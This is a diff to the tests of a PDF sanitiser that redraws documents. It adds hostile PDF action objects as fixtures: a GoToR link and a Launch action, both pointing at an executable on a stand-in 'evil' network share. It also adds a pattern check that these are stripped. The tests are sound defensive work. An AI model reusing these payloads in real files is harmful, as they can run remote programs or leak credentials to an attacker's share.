@@ -37,12 +37,14 @@ test.each(readdirSync(SAMPLES))('each page of %s looks the same after redrawing'
 test.each([
   ['a script', pdfWithScript()],
   ['a link', pdfWithObject('<< /S /URI /URI (https://example.com/) >>')],
+  ['a link to a network share', pdfWithObject('<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>')],
+  ['a program on a network share', pdfWithObject('<< /S /Launch /Win << /F (\\\\\\\\evil\\\\a.exe) >> >>')],
   ['an attached program', pdfWithObject(pdfStream('/Type /EmbeddedFile', Buffer.from('MZ no DOS')))],
   ['a page of HTML before it', Buffer.concat([Buffer.from('<script>alert(1)</script>\n'), pdf()])],
 ])('only the pictures of its pages remain of a PDF with %s', async (_what, content) => {
   const redrawn = await redrawPdf(content)
   expect(redrawn).toEqual(await redrawPdf(pdf()))
-  expect(redrawn.toString('latin1')).not.toMatch(/JavaScript|URI|EmbeddedFile|<script>/)
+  expect(redrawn.toString('latin1')).not.toMatch(/JavaScript|URI|EmbeddedFile|<script>|GoToR|Launch|evil/)
 })
 
 test.each([
